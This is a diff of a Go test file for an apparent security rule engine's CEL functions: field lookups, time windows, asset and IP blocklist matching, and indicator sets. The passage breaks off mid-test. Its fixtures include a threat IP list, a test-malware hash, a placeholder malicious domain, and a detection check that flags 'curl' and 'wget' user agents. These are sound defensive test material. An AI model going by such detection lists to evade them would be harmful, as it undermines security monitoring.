@@ -1,10 +1,27 @@
 package plugins
 
 import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"slices"
+	"strings"
 	"testing"
+	"time"
 
+	"github.com/google/cel-go/cel"
+	"github.com/google/cel-go/common/types"
+	"github.com/google/cel-go/common/types/ref"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/threatwinds/go-sdk/catcher"
+	"google.golang.org/protobuf/types/known/structpb"
 )
 
 type Address struct {
@@ -347,3 +364,1625 @@ func TestEvaluate(t *testing.T) {
 		})
 	}
 }
+
+func TestContainsAnyAll(t *testing.T) {
+	data := `{"tags":["student","premium",3],"name":"Alice"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"any match", `contains_any("tags", ["premium", "gold"])`, true},
+		{"any no match", `contains_any("tags", ["gold", "silver"])`, false},
+		{"any numeric element", `contains_any("tags", [3])`, true},
+		{"any missing field", `contains_any("missing", ["premium"])`, false},
+		{"any non-array field", `contains_any("name", ["Alice"])`, false},
+		{"all match", `contains_all("tags", ["student", "premium"])`, true},
+		{"all partial", `contains_all("tags", ["student", "gold"])`, false},
+		{"all missing field", `contains_all("missing", ["student"])`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestArrayAt(t *testing.T) {
+	data := `{"items":["a","b","c"],"nums":[1,2.5],"empty":[],"name":"Alice"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"first element", `at("items", 0, "") == "a"`, true},
+		{"negative index", `at("items", -1, "") == "c"`, true},
+		{"numeric element", `at("nums", 1, 0.0) == 2.5`, true},
+		{"out of range", `at("items", 3, "none") == "none"`, true},
+		{"negative out of range", `at("items", -4, "none") == "none"`, true},
+		{"empty array", `at("empty", 0, "none") == "none"`, true},
+		{"missing field", `at("missing", 0, "none") == "none"`, true},
+		{"non-array field", `at("name", 0, "none") == "none"`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestEvaluateArray(t *testing.T) {
+	data := `{"events":[{"user":"alice","failed":3},{"user":"bob","failed":12},"noise",{"user":"carol","failed":25},{"user":"dave"}]}`
+
+	got, err := EvaluateArray(&data, "events", `failed > 10.0`)
+	assert.NoError(t, err)
+	assert.Equal(t, []int{1, 3}, got)
+
+	got, err = EvaluateArray(&data, "events", `safe("user", "") == "alice"`)
+	assert.NoError(t, err)
+	assert.Equal(t, []int{0}, got)
+
+	got, err = EvaluateArray(&data, "events", `exists("failed")`)
+	assert.NoError(t, err)
+	assert.Equal(t, []int{0, 1, 3}, got)
+
+	_, err = EvaluateArray(&data, "missing", `failed > 10.0`)
+	assert.Error(t, err)
+
+	_, err = EvaluateArray(&data, "events", `user`)
+	assert.Error(t, err)
+
+	_, err = EvaluateArray(nil, "events", `failed > 10.0`)
+	assert.Error(t, err)
+}
+
+func TestWithinLast(t *testing.T) {
+	now := time.Now().UTC()
+	data := fmt.Sprintf(`{"recent":%q,"old":%q,"future":%q,"farFuture":%q,"epoch":%d,"epochMs":%d,"bad":"yesterday"}`,
+		now.Add(-2*time.Minute).Format(time.RFC3339Nano),
+		now.Add(-2*time.Hour).Format(time.RFC3339),
+		now.Add(30*time.Second).Format(time.RFC3339),
+		now.Add(10*time.Minute).Format(time.RFC3339),
+		now.Add(-time.Minute).Unix(),
+		now.Add(-time.Minute).UnixMilli(),
+	)
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"recent", `within_last("recent", "5m")`, true},
+		{"old", `within_last("old", "5m")`, false},
+		{"old larger window", `within_last("old", "3h")`, true},
+		{"small clock skew", `within_last("future", "5m")`, true},
+		{"large clock skew", `within_last("farFuture", "5m")`, false},
+		{"custom tolerance", `within_last("farFuture", "5m", "15m")`, true},
+		{"epoch seconds", `within_last("epoch", "5m")`, true},
+		{"epoch milliseconds", `within_last("epochMs", "5m")`, true},
+		{"invalid timestamp", `within_last("bad", "5m")`, false},
+		{"missing timestamp", `within_last("missing", "5m")`, false},
+		{"invalid duration", `within_last("recent", "five minutes")`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestKvQsGet(t *testing.T) {
+	data := `{"msg":"src=10.0.0.1 dst=10.0.0.2  action=\"drop packet\" flag= proto=tcp","url":"https://example.com/a?user=bob&q=a%20b&bad=%zz","qs":"x=1&x=2","num":1}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"kv first", `kv_get("msg", "src") == "10.0.0.1"`, true},
+		{"kv after double space", `kv_get("msg", "action") == "drop packet"`, true},
+		{"kv empty value", `kv_get("msg", "flag") == ""`, true},
+		{"kv last", `kv_get("msg", "proto") == "tcp"`, true},
+		{"kv missing key", `kv_get("msg", "port") == ""`, true},
+		{"kv missing field", `kv_get("missing", "src") == ""`, true},
+		{"kv non-string", `kv_get("num", "src") == ""`, true},
+		{"qs from url", `qs_get("url", "user") == "bob"`, true},
+		{"qs decoded", `qs_get("url", "q") == "a b"`, true},
+		{"qs malformed pair", `qs_get("url", "bad") == ""`, true},
+		{"qs first value", `qs_get("qs", "x") == "1"`, true},
+		{"qs missing", `qs_get("qs", "y") == ""`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestHasAllAny(t *testing.T) {
+	data := `{"src":{"ip":"10.0.0.1"},"dst":{"ip":"10.0.0.2","port":0},"user":null}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"all present", `has_all(["src.ip", "dst.ip", "dst.port"])`, true},
+		{"all with null value", `has_all(["src.ip", "user"])`, true},
+		{"all one missing", `has_all(["src.ip", "src.port"])`, false},
+		{"all empty list", `has_all([])`, true},
+		{"any one present", `has_any(["src.port", "dst.port"])`, true},
+		{"any none present", `has_any(["src.port", "username"])`, false},
+		{"any empty list", `has_any([])`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestRegisterGlobalEnvOption(t *testing.T) {
+	data := `{"name":"Alice"}`
+
+	_, err := Evaluate(&data, `shout(name) == "ALICE!"`)
+	assert.Error(t, err)
+
+	globalEnvOptionsMutex.RLock()
+	previous := slices.Clone(globalEnvOptions)
+	globalEnvOptionsMutex.RUnlock()
+
+	t.Cleanup(func() {
+		globalEnvOptionsMutex.Lock()
+		globalEnvOptions = previous
+		globalEnvOptionsMutex.Unlock()
+	})
+
+	RegisterGlobalEnvOption(cel.Function("shout", cel.Overload("string_shout_string",
+		[]*cel.Type{cel.StringType}, cel.StringType,
+		cel.UnaryBinding(func(v ref.Val) ref.Val {
+			return types.String(strings.ToUpper(v.Value().(string)) + "!")
+		}),
+	)))
+
+	got, err := Evaluate(&data, `shout(name) == "ALICE!"`)
+	assert.NoError(t, err)
+	assert.True(t, got)
+}
+
+func TestGjsonQuery(t *testing.T) {
+	data := `{"items":[{"type":"a","value":"1"},{"type":"x","value":"2"}],"tags":["b","c"],"n":5}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"plain path", `gjson("items.0.type", "") == "a"`, true},
+		{"query", `gjson("items.#(type==\"x\").value", "") == "2"`, true},
+		{"query no match", `gjson("items.#(type==\"z\").value", "none") == "none"`, true},
+		{"array length", `gjson("items.#", "") == "2"`, true},
+		{"modifier", `gjson("tags|@reverse", "") == "[\"c\",\"b\"]"`, true},
+		{"number", `gjson("n", "") == "5"`, true},
+		{"missing", `gjson("missing", "def") == "def"`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestTimeDiff(t *testing.T) {
+	data := `{"req":{"ts":"2024-01-01T10:00:00Z"},"resp":{"ts":"2024-01-01T10:00:07.5Z"},"epoch":1704103200,"bad":"soon"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"positive", `time_diff("req.ts", "resp.ts") == 7.5`, true},
+		{"negative", `time_diff("resp.ts", "req.ts") == -7.5`, true},
+		{"mixed formats", `time_diff("req.ts", "epoch") == 0.0`, true},
+		{"threshold", `time_diff("req.ts", "resp.ts") > 5.0`, true},
+		{"invalid", `time_diff("req.ts", "bad") == 0.0`, true},
+		{"missing", `time_diff("missing", "resp.ts") == 0.0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestTimeBucket(t *testing.T) {
+	data := `{"ts":"2024-05-01T12:07:31+02:00","epoch":1714558051,"old":"1969-12-31T23:58:30Z","bad":"soon"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"five minutes", `time_bucket("ts", "5m") == timestamp("2024-05-01T10:05:00Z")`, true},
+		{"epoch seconds", `time_bucket("epoch", "5m") == time_bucket("ts", "5m")`, true},
+		{"day in utc", `time_bucket("ts", "24h") == timestamp("2024-05-01T00:00:00Z")`, true},
+		{"before epoch", `time_bucket("old", "1m") == timestamp("1969-12-31T23:58:00Z")`, true},
+		{"window key", `string(time_bucket("ts", "1h")) == "2024-05-01T10:00:00Z"`, true},
+		{"invalid timestamp", `time_bucket("bad", "5m") == timestamp(0)`, true},
+		{"missing timestamp", `time_bucket("missing", "5m") == timestamp(0)`, true},
+		{"invalid interval", `time_bucket("ts", "five") == timestamp(0)`, true},
+		{"non-positive interval", `time_bucket("ts", "-5m") == timestamp(0)`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestInAsset(t *testing.T) {
+	currentAssetIndex.Store(newAssetIndex(&Config{
+		Tenants: []*Tenant{
+			{Name: "acme", Assets: []*Asset{{Name: "web", Ips: []string{"10.0.0.5", "192.168.1.0/24", "bad"}}}},
+			{Name: "globex", Assets: []*Asset{{Name: "db", Ips: []string{"10.0.0.5", "2001:db8::/32"}}}},
+		},
+	}))
+	defer currentAssetIndex.Store(nil)
+
+	data := `{"a":"10.0.0.5","b":"192.168.1.77","c":"2001:db8::1","d":"8.8.8.8","e":"not-an-ip","f":"::ffff:192.168.1.1"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"exact ip", `in_asset("a") == "acme"`, true},
+		{"cidr", `in_asset("b") == "acme"`, true},
+		{"ipv6 cidr", `in_asset("c") == "globex"`, true},
+		{"mapped ipv4", `in_asset("f") == "acme"`, true},
+		{"unknown", `in_asset("d") == ""`, true},
+		{"invalid", `in_asset("e") == ""`, true},
+		{"missing", `in_asset("missing") == ""`, true},
+		{"is asset", `is_asset("b")`, true},
+		{"is not asset", `is_asset("d")`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestBlocklist(t *testing.T) {
+	require.NoError(t, LoadIPSet("threats", []string{"203.0.113.7", "198.51.100.0/24", "10.0.0.0/8", "10.1.0.0/16", "2001:db8::/32", "::ffff:192.0.2.0/120"}))
+	defer func() {
+		ipSetsMutex.Lock()
+		delete(ipSets, "threats")
+		ipSetsMutex.Unlock()
+	}()
+
+	assert.Error(t, LoadIPSet("threats", []string{"1.2.3.4", "not-an-ip"}))
+
+	data := `{"a":"203.0.113.7","b":"198.51.100.200","c":"10.200.3.4","d":"2001:db8:1::1","e":"8.8.8.8","f":"::ffff:203.0.113.7","g":"192.0.2.9","h":"bad"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"exact ip", `blocklist("threats", "a")`, true},
+		{"cidr", `blocklist("threats", "b")`, true},
+		{"nested cidr", `blocklist("threats", "c")`, true},
+		{"ipv6 cidr", `blocklist("threats", "d")`, true},
+		{"mapped ipv4", `blocklist("threats", "f")`, true},
+		{"mapped cidr", `blocklist("threats", "g")`, true},
+		{"no match", `blocklist("threats", "e")`, false},
+		{"invalid ip", `blocklist("threats", "h")`, false},
+		{"missing field", `blocklist("threats", "missing")`, false},
+		{"unknown set", `blocklist("unknown", "a")`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestEmailFunctions(t *testing.T) {
+	data := `{"from":"John Doe <John.Doe@Example.COM>","plain":"alice@mail.example.org","quoted":"\"odd user\"@example.net","bad":"not an email","noDomain":"bob@","number":5}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"domain with display name", `email_domain("from") == "example.com"`, true},
+		{"local with display name", `email_local("from") == "John.Doe"`, true},
+		{"plain domain", `email_domain("plain") == "mail.example.org"`, true},
+		{"plain local", `email_local("plain") == "alice"`, true},
+		{"quoted local", `email_local("quoted") == "odd user"`, true},
+		{"valid", `is_valid_email("plain") && is_valid_email("from") && is_valid_email("quoted")`, true},
+		{"malformed", `is_valid_email("bad")`, false},
+		{"missing domain", `is_valid_email("noDomain")`, false},
+		{"malformed domain", `email_domain("bad") == ""`, true},
+		{"malformed local", `email_local("noDomain") == ""`, true},
+		{"missing field", `is_valid_email("missing") || email_domain("missing") != ""`, false},
+		{"not a string", `is_valid_email("number")`, false},
+		{"allow list", `email_domain("from") in ["example.com", "example.org"]`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestEvaluateValue(t *testing.T) {
+	data := `{"user":{"name":"alice","age":30,"roles":["admin","dev"]},"src":{"ip":"10.0.0.1"},"dst":{"ip":"10.0.0.2"},"ts":"2024-05-05T02:30:00Z"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		wantType   ref.Type
+		want       any
+	}{
+		{"string", `user.name`, cel.StringType, "alice"},
+		{"safe", `safe("user.name", "")`, cel.StringType, "alice"},
+		{"number", `user.age`, cel.DoubleType, float64(30)},
+		{"int", `size(user.roles)`, cel.IntType, int64(2)},
+		{"bool", `user.age > 18.0`, cel.BoolType, true},
+		{"null", `null`, cel.NullType, structpb.NullValue_NULL_VALUE},
+		{"timestamp", `timestamp(safe("ts", ""))`, cel.TimestampType, time.Date(2024, 5, 5, 2, 30, 0, 0, time.UTC)},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := EvaluateValue(&data, tt.expression)
+			require.NoError(t, err)
+			assert.Equal(t, tt.wantType, got.Type())
+			assert.Equal(t, tt.want, got.Value())
+		})
+	}
+
+	for _, expression := range []string{`user.roles`, `["admin", "dev"]`} {
+		got, err := EvaluateValue(&data, expression)
+		require.NoError(t, err)
+
+		native, err := got.ConvertToNative(reflect.TypeOf([]any{}))
+		require.NoError(t, err)
+		assert.Equal(t, []any{"admin", "dev"}, native, expression)
+	}
+
+	for _, expression := range []string{`src`, `{"ip": [src.ip, dst.ip][0]}`} {
+		got, err := EvaluateValue(&data, expression)
+		require.NoError(t, err)
+
+		native, err := got.ConvertToNative(reflect.TypeOf(map[string]any{}))
+		require.NoError(t, err)
+		assert.Equal(t, map[string]any{"ip": "10.0.0.1"}, native, expression)
+	}
+
+	_, err := EvaluateValue(&data, `missing.field`)
+	assert.Error(t, err)
+
+	_, err = EvaluateValue(nil, `true`)
+	assert.Error(t, err)
+
+	_, err = Evaluate(&data, `user.name`)
+	assert.Error(t, err)
+}
+
+func TestEvaluateWithoutVariables(t *testing.T) {
+	env, err := cel.NewEnv(cel.Variable("user", cel.DynType))
+	require.NoError(t, err)
+
+	tests := []struct {
+		expression string
+		want       bool
+	}{
+		{`safe("user.name", "") == "alice"`, false},
+		{`exists("user") && gjson("user.age", 0) > 18`, false},
+		{`user.name == "alice"`, true},
+		{`safe(user.name, "") == "alice"`, true},
+		{`[1, 2].exists(x, x > 1)`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.expression, func(t *testing.T) {
+			parsed, issues := env.Parse(tt.expression)
+			require.NoError(t, issues.Err())
+			assert.Equal(t, tt.want, referencesVariables(parsed))
+		})
+	}
+
+	data := `{"user":{"name":"alice","age":30}}`
+
+	got, err := Evaluate(&data, `safe("user.name", "") == "alice" && exists("user.age")`)
+	assert.NoError(t, err)
+	assert.True(t, got)
+
+	got, err = Evaluate(&data, `user.name == "alice"`)
+	assert.NoError(t, err)
+	assert.True(t, got)
+
+	for _, invalid := range []string{`{"user":`, `["user"]`} {
+		_, err = Evaluate(&invalid, `exists("user")`)
+		assert.Error(t, err)
+
+		_, err = Evaluate(&invalid, `user == "alice"`)
+		assert.Error(t, err)
+	}
+}
+
+func BenchmarkEvaluate(b *testing.B) {
+	data := `{"user":{"name":"alice","age":30,"roles":["admin","dev"]},"origin":{"ip":"10.0.0.1","port":443}}`
+
+	b.Run("gjson only", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			_, _ = Evaluate(&data, `safe("user.name", "") == "alice" && exists("origin.ip")`)
+		}
+	})
+
+	b.Run("variables", func(b *testing.B) {
+		for i := 0; i < b.N; i++ {
+			_, _ = Evaluate(&data, `user.name == "alice" && has(origin.ip)`)
+		}
+	})
+}
+
+func TestEmbeddedJSON(t *testing.T) {
+	data := `{"message":"{\"user\":{\"name\":\"alice\",\"roles\":[\"admin\"]},\"count\":3}","text":"not json","broken":"{\"a\":","object":{"a":1}}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"valid", `is_json("message")`, true},
+		{"plain text", `is_json("text")`, false},
+		{"broken", `is_json("broken")`, false},
+		{"not a string", `is_json("object")`, false},
+		{"missing", `is_json("missing")`, false},
+		{"nested value", `json_get("message", "user.name") == "alice"`, true},
+		{"nested array", `json_get("message", "user.roles.0") == "admin"`, true},
+		{"number", `json_get("message", "count") == "3"`, true},
+		{"missing inner path", `json_get("message", "user.email") == ""`, true},
+		{"invalid inner json", `json_get("broken", "a") == ""`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestLookup(t *testing.T) {
+	table := map[string]string{"web-01": "high", "42": "medium"}
+	RegisterLookup("criticality", table)
+	defer func() {
+		lookupTablesMutex.Lock()
+		delete(lookupTables, "criticality")
+		lookupTablesMutex.Unlock()
+	}()
+
+	// Changes to the registered map must not leak into the table
+	table["web-01"] = "low"
+
+	data := `{"host":"web-01","id":42,"other":"db-01"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"found", `lookup("criticality", "host", "low") == "high"`, true},
+		{"numeric key", `lookup("criticality", "id", "low") == "medium"`, true},
+		{"unknown key", `lookup("criticality", "other", "low") == "low"`, true},
+		{"missing field", `lookup("criticality", "missing", "none") == "none"`, true},
+		{"unknown table", `lookup("unknown", "host", "none") == "none"`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	RegisterLookup("criticality", map[string]string{"web-01": "critical"})
+
+	got, err := Evaluate(&data, `lookup("criticality", "host", "low") == "critical"`)
+	assert.NoError(t, err)
+	assert.True(t, got)
+}
+
+func TestEvaluateContextLookupFunc(t *testing.T) {
+	RegisterLookupFunc("reverse_dns", func(ctx context.Context, key string) (string, bool, error) {
+		if key == "10.0.0.1" {
+			return "gateway.local", true, nil
+		}
+
+		// Simulates a slow resolver that only returns when the evaluation is cancelled
+		<-ctx.Done()
+		return "", false, ctx.Err()
+	})
+	defer func() {
+		lookupTablesMutex.Lock()
+		delete(lookupFuncs, "reverse_dns")
+		lookupTablesMutex.Unlock()
+	}()
+
+	data := `{"fast":"10.0.0.1","slow":"10.0.0.2"}`
+
+	got, err := EvaluateContext(context.Background(), &data, `lookup("reverse_dns", "fast", "") == "gateway.local"`)
+	require.NoError(t, err)
+	assert.True(t, got)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	_, err = EvaluateContext(ctx, &data, `lookup("reverse_dns", "slow", "") == ""`)
+	assert.Error(t, err)
+	assert.Less(t, time.Since(start), time.Second)
+
+	cancelled, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	_, err = EvaluateContext(cancelled, &data, `lookup("reverse_dns", "fast", "") == "gateway.local"`)
+	assert.Error(t, err)
+
+	_, err = EvaluateContext(cancelled, &data, `[1, 2, 3].all(x, x > 0)`)
+	assert.Error(t, err)
+
+	// Evaluation errors carry the IDs of the context
+	traced := catcher.WithRequestID(catcher.WithTraceID(context.Background(), "trace-1"), "req-1")
+
+	_, err = EvaluateContext(traced, &data, `lookup("reverse_dns", "fast", "") ==`)
+	require.Error(t, err)
+	assert.Equal(t, "trace-1", catcher.ToSdkError(err).Args["traceId"])
+	assert.Equal(t, "req-1", catcher.ToSdkError(err).Args["requestId"])
+
+	_, err = EvaluateContext(traced, &data, `safe("fast", "")`)
+	require.Error(t, err)
+	assert.Equal(t, "trace-1", catcher.ToSdkError(err).Args["traceId"])
+}
+
+func TestTruncate(t *testing.T) {
+	data := `{"msg":"hello world","utf":"héllo wörld","short":"hi"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       string
+	}{
+		{"truncated", `truncate("msg", 5)`, "hello"},
+		{"not truncated", `truncate("short", 5)`, "hi"},
+		{"exact length", `truncate("msg", 11)`, "hello world"},
+		{"multibyte", `truncate("utf", 7)`, "héllo w"},
+		{"suffix", `truncate("msg", 8, "...")`, "hello..."},
+		{"suffix multibyte", `truncate("utf", 5, "…")`, "héll…"},
+		{"suffix not needed", `truncate("short", 5, "...")`, "hi"},
+		{"suffix too long", `truncate("msg", 2, "...")`, "he"},
+		{"zero", `truncate("msg", 0)`, ""},
+		{"negative", `truncate("msg", -1)`, ""},
+		{"missing", `truncate("missing", 5, "...")`, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, fmt.Sprintf(`%s == %q`, tt.expression, tt.want))
+			assert.NoError(t, err)
+			assert.True(t, got)
+		})
+	}
+}
+
+func TestNumericAggregates(t *testing.T) {
+	data := `{"latencies":[120, 1500.5, "slow", null, 30],"empty":[],"words":["a","b"],"single":7}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"sum", `sum("latencies") == 1650.5`, true},
+		{"avg", `avg("latencies") == 550.1666666666666`, true},
+		{"max", `max("latencies") > 1000.0`, true},
+		{"min", `min("latencies") == 30.0`, true},
+		{"empty sum", `sum("empty") == 0.0`, true},
+		{"empty avg", `avg("empty") == 0.0`, true},
+		{"non numeric", `max("words") == 0.0 && min("words") == 0.0`, true},
+		{"missing", `sum("missing") == 0.0 && avg("missing") == 0.0`, true},
+		{"scalar", `sum("single") == 7.0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestObjectKeys(t *testing.T) {
+	data := `{"headers":{"host":"a","authorization":"b","accept":"c"},"empty":{},"list":[1,2],"text":"x"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"count", `keys_count("headers") == 3`, true},
+		{"empty count", `keys_count("empty") == 0`, true},
+		{"array count", `keys_count("list") == 0`, true},
+		{"missing count", `keys_count("missing") == 0`, true},
+		{"keys", `keys("headers") == ["host", "authorization", "accept"]`, true},
+		{"key membership", `"authorization" in keys("headers")`, true},
+		{"empty keys", `size(keys("empty")) == 0`, true},
+		{"non-object keys", `keys("text") == []`, true},
+		{"missing keys", `size(keys("missing")) == 0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestCaseInsensitiveLists(t *testing.T) {
+	data := `{"agent":"Mozilla/5.0 (compatible; Googlebot/2.1)","action":"DENY","empty":""}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"contains match", `contains_any_ci("agent", ["curl", "GOOGLEBOT"])`, true},
+		{"contains no match", `contains_any_ci("agent", ["curl", "wget"])`, false},
+		{"contains empty list", `contains_any_ci("agent", [])`, false},
+		{"contains missing", `contains_any_ci("missing", ["a"])`, false},
+		{"contains empty substring", `contains_any_ci("empty", [""])`, true},
+		{"equals match", `equals_any_ci("action", ["drop", "deny"])`, true},
+		{"equals substring only", `equals_any_ci("action", ["den"])`, false},
+		{"equals missing", `equals_any_ci("missing", [""])`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestReCaptures(t *testing.T) {
+	data := `{"msg":"login user=alice port=22 from 10.0.0.1"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"named group", `re_captures(safe("msg", ""), "user=(?P<user>\\w+)").user == "alice"`, true},
+		{"unnamed group", `re_captures(safe("msg", ""), "port=(\\d+)")["1"] == "22"`, true},
+		{"mixed groups", `re_captures(safe("msg", ""), "user=(?P<user>\\w+) port=(\\d+)") == {"user": "alice", "2": "22"}`, true},
+		{"optional group", `re_captures(safe("msg", ""), "user=(\\w+)( admin)?")["2"] == ""`, true},
+		{"no match", `size(re_captures(safe("msg", ""), "user=(?P<user>\\d+)")) == 0`, true},
+		{"missing field", `size(re_captures(safe("missing", ""), "(?P<user>\\w+)")) == 0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	_, err := Evaluate(&data, `re_captures(safe("msg", ""), "(") == {}`)
+	assert.Error(t, err)
+}
+
+func TestIndicator(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "hashes.txt")
+	require.NoError(t, os.WriteFile(file, []byte("# malware feed\n"+
+		"44d88612fea8a8f36de82e1278abb02f\n  evil.example.com  \n\n"), 0o644))
+
+	require.NoError(t, LoadIndicatorSet("exact", file))
+	require.NoError(t, LoadIndicatorBloomFilter("bloom", file, 0.001))
+	defer func() {
+		indicatorSetsMutex.Lock()
+		delete(indicatorSets, "exact")
+		delete(indicatorSets, "bloom")
+		indicatorSetsMutex.Unlock()
+	}()
+
+	assert.Error(t, LoadIndicatorSet("exact", filepath.Join(t.TempDir(), "missing.txt")))
+	assert.Error(t, LoadIndicatorBloomFilter("bloom", file, 1))
+
+	data := `{"hash":"44d88612fea8a8f36de82e1278abb02f","domain":"evil.example.com","other":"good.example.com","comment":"# malware feed"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"exact hash", `indicator("exact", "hash")`, true},
+		{"exact trimmed entry", `indicator("exact", "domain")`, true},
+		{"exact no match", `indicator("exact", "other")`, false},
+		{"exact comment", `indicator("exact", "comment")`, false},
+		{"bloom hash", `indicator("bloom", "hash")`, true},
+		{"bloom domain", `indicator("bloom", "domain")`, true},
+		{"bloom no match", `indicator("bloom", "other")`, false},
+		{"missing field", `indicator("exact", "missing")`, false},
+		{"unknown set", `indicator("unknown", "hash")`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestBloomIndicatorSetFalsePositiveRate(t *testing.T) {
+	set := newBloomIndicatorSet(10000, 0.01)
+	for i := range 10000 {
+		set.add(fmt.Sprintf("in-%d", i))
+	}
+
+	var falsePositives int
+	for i := range 10000 {
+		assert.True(t, set.contains(fmt.Sprintf("in-%d", i)))
+		if set.contains(fmt.Sprintf("out-%d", i)) {
+			falsePositives++
+		}
+	}
+
+	assert.Less(t, falsePositives, 200)
+}
+
+func TestWeekdayHour(t *testing.T) {
+	// 2024-05-05 is a Sunday
+	data := `{"login":{"ts":"2024-05-05T02:30:00Z","epoch":1714876200},"bad":"yesterday"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
